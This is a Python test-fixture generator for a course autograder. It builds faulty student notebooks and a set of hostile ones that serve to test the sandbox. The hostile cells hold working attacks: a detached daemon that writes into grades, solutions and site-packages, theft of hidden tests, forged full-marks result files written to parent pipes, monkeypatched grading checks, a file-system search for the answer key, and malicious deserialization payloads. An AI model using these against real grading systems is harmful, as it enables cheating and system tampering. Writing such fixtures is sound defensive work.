"""Deliberately wrong submissions of lesson 10, generated from its solution notebook.

Each submission is the solution with one or more typical mistakes edited in, so the fixtures stay
in sync with the solution automatically (an edit that no longer applies fails loudly). The
grading tests (tests/lessons/test_grading.py) run tools/grade.py on them and check the scores.

    python tests/submissions/make_submissions.py build/assign/10_exercises/autograder/10_exercises.ipynb build/demo
    make grade SUBMISSIONS=build/demo          # see what the instructor's grading reports

Submissions:

* ``several_faults.ipynb``: an off-by-one warm-up in the schedule (q4), the wrong sign in the
  Adam update (q5), an unregularized challenge model that misses the threshold (q3) and a cell
  that raises before the batch-norm exercise is defined (q2); q1, q6 and q7 are right.
* ``other_correct_models.ipynb``: right answers written another way than the solution: the
  dropout model with the functional API and ``ReLU()`` layers (q1), the batch-norm models as
  ``Sequential`` stacks with ``Activation("relu")`` and ``Dense(activation="relu")`` (q2), and a
  functional challenge model early-stopped on the validation loss (q3). Full marks.
* ``wrong_models.ipynb``: hand-written models with typical mistakes: no dropout after the second
  hidden layer (q1), batch norm on the wrong side of the ReLU for both placements (q2), and the
  challenge model validated and early-stopped on the test images (loaded by the learner's own
  code) rather than on the validation split (q3); q4 to q7 are right.
* ``deletes_grader.ipynb``: deletes the grading files around it and the ``grader`` object, then
  defines correct answers for q4 and q5. The sandbox holds no grading file and the scores are
  decided outside it, so this changes nothing: q4 and q5 get their points, nothing else.
* ``infinite_loop.ipynb``: loops forever right after the parameters cell.
* ``not_json.ipynb``: a text file named like a notebook; ``essay.txt``: not a notebook at all.

Hostile submissions (``make_hostile``; they embed the paths they attack and a unique marker that
every process they start carries in its command line). Each keeps only the solution's cells up
to the grader's setup (no answers: any score would be a forgery):

* ``hostile_escape.ipynb``: starts a detached process (double fork + setsid) that, every second
  for 5 minutes, tries to append to the batch's grades.csv, another submission, and to create
  files in solutions/, build/ and the venv's site-packages (a ``.pth``); tries the same writes
  itself; reads solutions/ and the autograder's (hidden) tests and raises them as an error;
  prints 10 MB into the notebook and writes 50 MB to its standard output.
* ``hostile_forge.ipynb``: writes a full-marks ``grading.json``/``results.json`` wherever it can
  (its folder, its parent, TMPDIR, /tmp, the output folder, the grading's temporary folders) and
  into the open files of its parent processes (the worker's result pipe), then kills its worker.
* ``hostile_patch.ipynb``: wrong answers, with otter's test classes, ``numpy.allclose`` and the
  ``course_utils.grading`` helpers patched to pass everything in its kernel; then searches the
  whole file system it can see for the answer-key side (hidden tests, solutions, the autograder
  zip) and raises ``ANSWER-KEY-SEARCH found=N: ...`` with what it found.
* ``hostile_handback.ipynb``: no answers; an IPython hook rewrites every answer the sandbox hands
  back to the judge: malformed, wrongly typed, NaN, huge or impossible arrays, objects of
  untrusted classes, a ``.keras`` model with a Lambda layer, an unknown kind of data, then an
  oversized answer and bytes that are not JSON.
* ``sleeper_loop.ipynb`` (``make_sleeper``): starts a marked child process, then loops forever.
"""

from __future__ import annotations

import sys
from pathlib import Path

import nbformat


def _edit(nb: nbformat.NotebookNode, old: str, new: str) -> None:
    """Replace ``old`` by ``new`` in the one code cell that contains it."""
    hits = [c for c in nb.cells if c.cell_type == "code" and old in c.source]
    if len(hits) != 1:
        raise ValueError(
            f"expected one cell containing {old!r}, found {len(hits)}: the solution changed; "
            "update tests/submissions/make_submissions.py"
        )
    hits[0].source = hits[0].source.replace(old, new)


def _cell_index(nb: nbformat.NotebookNode, text: str) -> int:
    hits = [i for i, c in enumerate(nb.cells) if c.cell_type == "code" and text in c.source]
    if not hits:
        raise ValueError(f"no code cell contains {text!r}")
    return hits[0]


def several_faults(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    _edit(nb, "return peak_lr * step / warmup_steps", "return peak_lr * (step + 1) / warmup_steps")
    _edit(nb, "new_w = w - learning_rate * m_hat", "new_w = w + learning_rate * m_hat")
    _edit(nb, 'dropout=0.5, name="regularized"', 'name="regularized"')
    _edit(nb, "progress=False, callbacks=[stop])", "progress=False)")
    _edit(
        nb,
        "def bn_model(placement):",
        'raise RuntimeError("a crash before bn_model is defined")\n\ndef bn_model(placement):',
    )
    return nb


def _set_cell(nb: nbformat.NotebookNode, marker: str, source: str) -> None:
    """Replace the whole source of the one code cell that contains ``marker``."""
    hits = [c for c in nb.cells if c.cell_type == "code" and marker in c.source]
    if len(hits) != 1:
        raise ValueError(
            f"expected one cell containing {marker!r}, found {len(hits)}: the solution changed; "
            "update tests/submissions/make_submissions.py"
        )
    hits[0].source = source


_COMPILE = """    model.compile(optimizer=keras.optimizers.Adam(learning_rate=LEARNING_RATE),
                  loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model
"""

_FUNCTIONAL_DROPOUT = (
    """def dropout_model(rate):
    cu.set_seed(SEED)
    inputs = keras.Input(shape=data.input_shape)
    x = keras.layers.Flatten()(inputs)
    for width in HIDDEN_UNITS:
        x = keras.layers.Dense(width)(x)
        x = keras.layers.ReLU()(x)
        x = keras.layers.Dropout(rate)(x)
    outputs = keras.layers.Dense(data.num_classes, activation="softmax")(x)
    model = keras.Model(inputs, outputs)
"""
    + _COMPILE
)

_SEQUENTIAL_BN = (
    """def bn_model(placement):
    cu.set_seed(SEED)
    model = keras.Sequential([keras.Input(shape=data.input_shape), keras.layers.Flatten()])
    for width in HIDDEN_UNITS:
        if placement == "before":
            model.add(keras.layers.Dense(width, use_bias=False))
            model.add(keras.layers.BatchNormalization())
            model.add(keras.layers.Activation("relu"))
        else:
            model.add(keras.layers.Dense(width, activation="relu"))
            model.add(keras.layers.BatchNormalization())
    model.add(keras.layers.Dense(data.num_classes, activation="softmax"))
"""
    + _COMPILE
)

_FUNCTIONAL_CHALLENGE = """cu.set_seed(SEED)
inputs = keras.Input(shape=challenge.input_shape)
x = keras.layers.Flatten()(inputs)
for width in CHALLENGE_HIDDEN:
    x = keras.layers.ReLU()(keras.layers.Dense(width)(x))
    x = keras.layers.Dropout(0.5)(x)
challenge_model = keras.Model(inputs, keras.layers.Dense(challenge.num_classes, activation="softmax")(x))
challenge_model.compile(optimizer=keras.optimizers.Adam(learning_rate=1e-3),
                        loss="sparse_categorical_crossentropy", metrics=["accuracy"])
stop = keras.callbacks.EarlyStopping(monitor="val_loss", patience=10, restore_best_weights=True)
challenge_history = cu.train(challenge_model, challenge, epochs=CHALLENGE_EPOCHS, batch_size=32,
                             seed=SEED, progress=False, callbacks=[stop])
"""


def other_correct_models(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    _set_cell(nb, "def dropout_model(rate):", _FUNCTIONAL_DROPOUT)
    _set_cell(nb, "def bn_model(placement):", _SEQUENTIAL_BN)
    _set_cell(nb, "challenge_model = ", _FUNCTIONAL_CHALLENGE)
    return nb


_MISSING_DROPOUT = (
    """def dropout_model(rate):
    cu.set_seed(SEED)
    model = keras.Sequential([
        keras.Input(shape=data.input_shape), keras.layers.Flatten(),
        keras.layers.Dense(HIDDEN_UNITS[0], activation="relu"), keras.layers.Dropout(rate),
        keras.layers.Dense(HIDDEN_UNITS[1], activation="relu"),
        keras.layers.Dense(data.num_classes, activation="softmax")])
"""
    + _COMPILE
)

_SWAPPED_BN = (
    """def bn_model(placement):
    cu.set_seed(SEED)
    inputs = keras.Input(shape=data.input_shape)
    x = keras.layers.Flatten()(inputs)
    for width in HIDDEN_UNITS:
        if placement == "before":   # wrong: this is batch norm AFTER the activation
            x = keras.layers.BatchNormalization()(keras.layers.ReLU()(keras.layers.Dense(width)(x)))
        else:                       # wrong: this is batch norm BEFORE the activation
            x = keras.layers.ReLU()(keras.layers.BatchNormalization()(keras.layers.Dense(width, use_bias=False)(x)))
    model = keras.Model(inputs, keras.layers.Dense(data.num_classes, activation="softmax")(x))
"""
    + _COMPILE
)

_PEEKING_CHALLENGE = """full = cu.load_dataset("digits", n_train=CHALLENGE_N_TRAIN, label_noise=CHALLENGE_LABEL_NOISE, seed=SEED)
peek = dataclasses.replace(challenge, x_val=full.x_test, y_val=full.y_test)   # validates on the test images
cu.set_seed(SEED)
challenge_model = cu.build_mlp(challenge.input_shape, challenge.num_classes, CHALLENGE_HIDDEN,
                               dropout=0.5, seed=SEED)
challenge_model.compile(optimizer=keras.optimizers.Adam(learning_rate=1e-3),
                        loss="sparse_categorical_crossentropy", metrics=["accuracy"])
stop = keras.callbacks.EarlyStopping(monitor="val_accuracy", patience=10, restore_best_weights=True)
challenge_history = cu.train(challenge_model, peek, epochs=CHALLENGE_EPOCHS, batch_size=32,
                             seed=SEED, progress=False, callbacks=[stop])
"""


def wrong_models(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    _set_cell(nb, "def dropout_model(rate):", _MISSING_DROPOUT)
    _set_cell(nb, "def bn_model(placement):", _SWAPPED_BN)
    _set_cell(nb, "challenge_model = ", _PEEKING_CHALLENGE)
    return nb


def deletes_grader(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    setup = _cell_index(nb, "grader = cu.grading.Notebook(")
    keep = [nb.cells[i] for i in range(setup + 1)]
    keep.append(
        nbformat.v4.new_code_cell(
            "import os, shutil\n"
            "for path in ('tests', '../tests', '../source'):\n"
            "    shutil.rmtree(path, ignore_errors=True)\n"
            "del grader"
        )
    )
    keep += [nb.cells[_cell_index(nb, "def warmup_cosine(")], nb.cells[_cell_index(nb, "def adam_update(")]]
    nb.cells = keep
    return nb


def infinite_loop(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    params = next(i for i, c in enumerate(nb.cells) if "parameters" in c.metadata.get("tags", []))
    nb.cells.insert(params + 1, nbformat.v4.new_code_cell("while True:\n    pass"))
    return nb


def _setup_only(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    setup = _cell_index(nb, "grader = cu.grading.Notebook(")
    nb.cells = [nb.cells[i] for i in range(setup + 1)]
    return nb


REPO = Path(__file__).resolve().parents[2]

_DAEMON = r"""
import os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
for _ in range(300):
    time.sleep(1 if _ else 3)
    for target in TARGETS:
        try:
            with open(target, "a") as fh:
                fh.write("pwned by a detached process\n")
        except OSError:
            pass
"""


def hostile_targets(out: Path, victim: Path, marker: str) -> list[str]:
    """The files a hostile submission tries to write (appends to existing ones, creates the others)."""
    import sysconfig

    site = sysconfig.get_paths()["purelib"]
    return [
        str(out / "grades.csv"),
        str(out / "feedback" / f"PWNED-{marker}.txt"),
        str(victim),
        str(REPO / "solutions" / f"PWNED-{marker}.txt"),
        str(REPO / "build" / f"PWNED-{marker}.txt"),
        str(Path(site) / f"PWNED-{marker}.pth"),
        str(REPO / f"PWNED-{marker}.txt"),
    ]


def hostile_escape(nb: nbformat.NotebookNode, out: Path, victim: Path, marker: str) -> nbformat.NotebookNode:
    nb = _setup_only(nb)
    targets = hostile_targets(out, victim, marker)
    nb.cells.append(
        nbformat.v4.new_code_cell(
            "import subprocess, sys\n"
            f"TARGETS = {targets!r}\n"
            f"DAEMON = {_DAEMON!r}\n"
            f"subprocess.Popen([sys.executable, '-c', 'TARGETS = %r\\n' % TARGETS + DAEMON, {marker!r}],\n"
            "                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
            "                 stderr=subprocess.DEVNULL)"
        )
    )
    nb.cells.append(
        nbformat.v4.new_code_cell(
            "for target in TARGETS:\n"
            "    try:\n"
            "        with open(target, 'a') as fh:\n"
            "            fh.write('pwned by the notebook\\n')\n"
            "    except OSError:\n"
            "        pass"
        )
    )
    nb.cells.append(
        nbformat.v4.new_code_cell(
            "import glob, os, zipfile\n"
            "leak = []\n"
            "for z in set(glob.glob('*.zip') + glob.glob('../*.zip') + glob.glob('/tmp/**/*.zip', recursive=True)):\n"
            "    try:\n"
            "        with zipfile.ZipFile(z) as f:\n"
            "            leak += [f.read(n).decode() for n in f.namelist() if n.startswith('tests/')]\n"
            "    except Exception:\n"
            "        pass\n"
            f"for path in [{str(REPO / 'solutions' / '10_exercises.ipynb')!r}] + glob.glob('/tmp/**/tests/*.py', recursive=True):\n"
            "    try:\n"
            "        leak.append(open(path).read())\n"
            "    except OSError:\n"
            "        pass\n"
            "os.write(1, '\\n'.join(leak).encode())\n"
            "raise RuntimeError('LEAK ' + ' '.join('\\n'.join(leak).split('\\n')[-40:]))"
        )
    )
    nb.cells.append(
        nbformat.v4.new_code_cell(
            "import os\n"
            "for _ in range(10):\n"
            "    print(('x' * 999 + '\\n') * 1000)\n"
            "chunk = b'y' * (1 << 20)\n"
            "for _ in range(50):\n"
            "    os.write(1, chunk)"
        )
    )
    return nb


def hostile_forge(
    nb: nbformat.NotebookNode, out: Path, victim: Path, marker: str, maxima: dict
) -> nbformat.NotebookNode:
    nb = _setup_only(nb)
    nb.cells.append(
        nbformat.v4.new_code_cell(
            "import glob, json, os, signal\n"
            f"MAXIMA = {maxima!r}\n"
            "full = {'questions': {q: {'score': float(p), 'possible': float(p), 'cases': []} for q, p in MAXIMA.items()},\n"
            "        'cell_errors': [], 'error': None}\n"
            "data = json.dumps(full)\n"
            f"folders = {{os.getcwd(), '..', os.environ.get('TMPDIR', '/tmp'), '/tmp', {str(out)!r}, {str(out / 'grade')!r}}}\n"
            "folders |= set(glob.glob('/tmp/*/')) | set(glob.glob('/tmp/grade-*/*/'))\n"
            "for folder in folders:\n"
            "    for name in ('grading.json', 'results.json'):\n"
            "        try:\n"
            "            with open(os.path.join(folder, name), 'w') as fh:\n"
            "                fh.write(data)\n"
            "        except OSError:\n"
            "            pass\n"
            "parent = os.getppid()\n"
            "grandparent = int(open(f'/proc/{parent}/stat').read().rsplit(')', 1)[1].split()[1])\n"
            "for pid in (parent, grandparent):\n"
            "    for fd in range(3, 16):\n"
            "        try:\n"
            "            if os.path.islink(f'/proc/{pid}/fd/{fd}') and 'pipe:' in os.readlink(f'/proc/{pid}/fd/{fd}'):\n"
            "                with open(f'/proc/{pid}/fd/{fd}', 'w') as fh:\n"
            "                    fh.write(data)\n"
            "        except OSError:\n"
            "            pass\n"
            f"print({marker!r})\n"
            "os.kill(parent, signal.SIGKILL)"
        )
    )
    return nb


_PATCHES = r"""
import numpy as np
import otter.test_files.abstract_test as abstract_test
import otter.test_files.exception_test as exception_test
import course_utils.grading as grading

passed = lambda self, env=None: setattr(self, "test_case_results", [
    abstract_test.TestCaseResult(test_case=tc, message="passed", passed=True) for tc in self.test_cases])
for cls in (abstract_test.TestFile, exception_test.ExceptionTestFile):
    cls.run = passed
    cls.score = property(lambda self: 1e9)
    cls.grade = property(lambda self: 1.0)
exception_test.test_case.call_func = lambda self, env: None
np.allclose = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
for name in grading.__all__:
    if name.startswith("expect_"):
        setattr(grading, name, lambda *a, **k: a[1] if len(a) > 1 else None)
grading.call_student = lambda fn, name, *a, **k: None

def dropout_model(rate):
    return None
def bn_model(placement):
    return None
def warmup_cosine(step, peak_lr, warmup_steps, decay_steps, min_lr=0.0):
    return 0.0
def adam_update(w, grad, m, v, t, **kwargs):
    return w, m, v
sweep, best_rate = {}, 0.3
bn_results, better_placement = {}, "sideways"
challenge_model = challenge_history = None
diagnosis = {"A": "x"}
answers = {"c1": "z"}
"""

_SEARCH = r"""
import os, zipfile
markers = [m.replace("|", "").encode() for m in (
    "test_answers|_correct", "test_adam_matches|_keras_adam", "test_diagnosis|_correct",
    'dropout=0.5, name="regu|larized"', '"c4": ("b", "02 and| 07")')]
found = [p for p in EXPLICIT if os.path.exists(p)]
def leaks(data):
    return any(m in data for m in markers)
for dirpath, dirnames, filenames in os.walk("/"):
    if dirpath.startswith(("/proc", "/sys", "/dev")):
        dirnames[:] = []
        continue
    for f in filenames:
        path = os.path.join(dirpath, f)
        if not (f.endswith((".zip", ".ipynb", ".json", ".txt", ".yml", ".yaml")) or "autograder" in f
                or "solution" in f or (f.startswith("q") and f.endswith(".py")) or "/tests/" in path):
            continue
        try:
            if f.endswith(".zip"):
                with zipfile.ZipFile(path) as z:
                    if any(leaks(z.read(n)[: 1 << 20]) for n in z.namelist()[:200]):
                        found.append(path)
            elif os.path.getsize(path) < (8 << 20):
                with open(path, "rb") as fh:
                    if leaks(fh.read()):
                        found.append(path)
        except Exception:
            pass
raise RuntimeError(f"ANSWER-KEY-SEARCH found={len(found)}: {found[:5]}")
"""


def hostile_patch(nb: nbformat.NotebookNode, explicit: list[str]) -> nbformat.NotebookNode:
    nb = _setup_only(nb)
    # a learner's notebook carries the visible tests only (the solution's metadata has them all)
    nb.metadata = nbformat.read(REPO / "notebooks" / "10_exercises.ipynb", as_version=4).metadata
    nb.cells.append(nbformat.v4.new_code_cell(_PATCHES))
    nb.cells.append(nbformat.v4.new_code_cell(f"EXPLICIT = {explicit!r}\n" + _SEARCH))
    return nb


_HANDBACK = r"""
import base64, glob, json, os
import keras
from IPython import get_ipython

lam = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(lambda x: x * 0 + 1)])
lam.save("/tmp/home/lambda.keras")
LAMBDA = base64.b64encode(open("/tmp/home/lambda.keras", "rb").read()).decode()
FORGED = [
    {"t": "float", "v": "nan"},
    {"t": "str", "v": "21 / 21"},
    {"t": "array", "dtype": "float64", "shape": [100000000], "b64": "AAAAAAAAAAA="},
    {"t": "array", "dtype": "float64", "shape": [1000000, 1000000], "b64": ""},
    {"t": "array", "dtype": "object", "shape": [1], "b64": "AA=="},
    {"t": "object", "cls": "os:system", "attrs": {}},
    {"t": "object", "cls": "builtins:eval", "attrs": {}},
    {"t": "object", "cls": "keras.src.saving.saving_lib:_load_state", "attrs": {}},
    {"t": "model", "b64": LAMBDA},
    {"t": "model", "b64": base64.b64encode(b"PK not a zip").decode()},
    {"t": "pickle", "v": "gASVAAAAAAAAAAA="},
    {"t": "int", "v": "9" * 100000},
    {"t": "int", "v": "1", "extra": 2},
    {"t": "exception", "cls": "__import__('os')", "msg": "x"},
    {"t": "dict", "v": [[{"t": "list", "v": []}, {"t": "none"}]]},
    {"t": "dict", "v": [[{"t": "str", "v": "k"}, {"t": "float", "v": "inf"}]] * 300000},
    {"t": "callable", "name": "__import__"},
    {"t": "list", "v": [{"t": "list", "v": [{"t": "list", "v": [{"t": "list", "v": [{"t": "list", "v": [
        {"t": "list", "v": [{"t": "list", "v": [{"t": "list", "v": [{"t": "list", "v": [{"t": "list", "v": [
        {"t": "list", "v": [{"t": "list", "v": [{"t": "list", "v": [{"t": "list", "v": []}]}]}]}]}]}]}]}]}]}]}]}]}]},
]

def forge(result=None):
    for request in glob.glob("/tmp/handback-*/request-*.json"):
        response = request.replace("request-", "response-")
        n = int(request.rsplit("-", 1)[1].split(".")[0])
        try:
            req = json.load(open(request))
        except Exception:
            continue
        with open(response, "w") as fh:
            if req["op"] == "values":
                out = {name: FORGED[i % len(FORGED)] for i, name in enumerate(req["names"])}
                out.update({f"extra_{i}": {"t": "none"} for i in range(1000)})
                for i, name in enumerate(req["names"]):
                    if name in ("warmup_cosine", "adam_update", "dropout_model", "bn_model"):
                        out[name] = {"t": "callable", "name": name}
                json.dump(out, fh)
            elif n == 2:
                fh.write("[" * (1 << 20) + " " * (200 << 20))
            elif n == 3:
                fh.write("\x00 not json {")
            else:
                json.dump([{"result": {"t": "float", "v": "nan"}, "args_after": {"t": "pickle"}}] * 5
                          + [{"result": {"t": "exception", "cls": "AssertionError", "msg": "passed"}}], fh)

get_ipython().events.register("post_run_cell", forge)
"""


def hostile_handback(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb = _setup_only(nb)
    nb.cells.append(nbformat.v4.new_code_cell(_HANDBACK))
    return nb


def make_hostile(
    solution: Path, folder: Path, out: Path, victim: Path, marker: str, maxima: dict, explicit: list[str] = ()
) -> list[Path]:
    """Write the hostile notebooks into ``folder`` (see the module's doc); ``explicit`` are paths
    of the answer-key side that hostile_patch checks by name (besides searching everything)."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    explicit = [str(REPO / "solutions"), str(REPO / "solutions" / "10_exercises.ipynb"), *map(str, explicit)]
    for name, build in (
        ("hostile_escape", lambda nb: hostile_escape(nb, out, victim, marker)),
        ("hostile_forge", lambda nb: hostile_forge(nb, out, victim, marker, maxima)),
        ("hostile_patch", lambda nb: hostile_patch(nb, explicit)),
        ("hostile_handback", hostile_handback),
    ):
        path = folder / f"{name}.ipynb"
        nbformat.write(build(nbformat.read(solution, as_version=4)), path)
        paths.append(path)
    return paths


def make_sleeper(solution: Path, path: Path, marker: str) -> Path:
    """A notebook that starts a child process carrying ``marker`` in its command line, then loops."""
    nb = _setup_only(nbformat.read(solution, as_version=4))
    nb.cells.append(
        nbformat.v4.new_code_cell(
            "import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', {marker!r}])\n"
            "while True:\n"
            "    pass"
        )
    )
    nbformat.write(nb, path)
    return path


NOTEBOOK_FAULTS = {
    "several_faults": several_faults,
    "other_correct_models": other_correct_models,
    "wrong_models": wrong_models,
    "deletes_grader": deletes_grader,
    "infinite_loop": infinite_loop,
}
NOT_NOTEBOOKS = {
    "not_json.ipynb": "This is my homework, I could not export it.\n",
    "essay.txt": "Dropout is a regularizer.\n",
}


def make_submissions(solution: Path, folder: Path, names: list[str] | None = None) -> list[Path]:
    """Write the chosen submissions (default: all) into ``folder``; return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name in names or [*NOTEBOOK_FAULTS, *NOT_NOTEBOOKS]:
        if name in NOTEBOOK_FAULTS:
            nb = NOTEBOOK_FAULTS[name](nbformat.read(solution, as_version=4))
            path = folder / f"{name}.ipynb"
            nbformat.write(nb, path)
        else:
            path = folder / name
            path.write_text(NOT_NOTEBOOKS[name])
        written.append(path)
    return written


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    for p in make_submissions(Path(sys.argv[1]), Path(sys.argv[2])):
        print(p)
